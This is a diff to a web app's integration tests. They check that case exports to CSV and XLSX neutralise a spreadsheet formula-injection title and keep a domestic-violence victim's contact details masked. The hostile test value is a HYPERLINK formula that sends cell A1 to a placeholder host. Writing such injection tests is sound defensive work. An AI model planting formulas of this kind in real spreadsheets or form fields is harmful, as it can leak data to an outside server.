@@ -13,6 +13,35 @@ from tests.integration.cases.helpers import act, create, hdr
 TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
 
 
+def xlsx_text(body: bytes) -> str:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(body))
+    return "\n".join(",".join("" if v is None else str(v) for v in row) for ws in wb for row in ws.iter_rows(values_only=True))
+
+
+async def test_case_exports_never_run_a_title_as_a_formula(client) -> None:
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
+    case = await create(client, title=hostile)
+    await page_login(client, "mediator")
+    rows = list(csv.reader(io.StringIO((await (await client.get("/cases/export.csv")).text()).lstrip("\ufeff"))))
+    assert rows[0][:2] == ["案件编号", "标题"]
+    row = next(r for r in rows if r[0] == case["code"])
+    assert row[1] == "'" + hostile  # a leading apostrophe: the spreadsheet shows text
+    r = await client.get("/cases/export.xlsx?lang=en")
+    assert r.status == 200 and r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
+    assert "attachment" in r.headers["Content-Disposition"] and r.headers["Cache-Control"] == "no-store"
+    ws = load_workbook(io.BytesIO(await r.read())).active
+    assert [c.value for c in ws[1]][:2] == ["Case code", "Title"]
+    cell = next(row[1] for row in ws.iter_rows(min_row=2) if row[0].value == case["code"])
+    assert cell.value == hostile and cell.data_type == "s"  # a string cell, not a formula
+    client.session.cookie_jar.clear()
+    r = await client.get("/cases/export.xlsx", allow_redirects=False)
+    assert r.status in (302, 401)  # not logged in: no data
+
+
 async def page_login(client, username: str) -> str:  # type: ignore[no-untyped-def]
     """Log in through the form like a browser; returns a CSRF token for later forms."""
     client.session.cookie_jar.clear()
@@ -113,6 +142,9 @@ async def test_dv_privacy_in_pages_and_exports(client) -> None:
     text = "\n".join(",".join(r) for r in rows)
     assert dv["code"] in text and "13700003333" not in text and "幸福村3组8号" not in text
     assert "13800001111" not in text and "139****2222" in text  # confidential flag honoured; others masked
+    sheet = xlsx_text(await (await client.get("/cases/export.xlsx")).read())
+    assert dv["code"] in sheet and "13700003333" not in sheet and "幸福村3组8号" not in sheet
+    assert "13800001111" not in sheet and "139****2222" in sheet
     copy = await (await client.get(f"/cases/{dv['code']}/parties/{perp_id}/copy")).text()
     assert "王五" in copy and "13700003333" not in copy and "幸福村3组8号" not in copy.split("赵六")[0]
     own = await (await client.get(f"/cases/{dv['code']}/parties/{victim_id}/copy")).text()
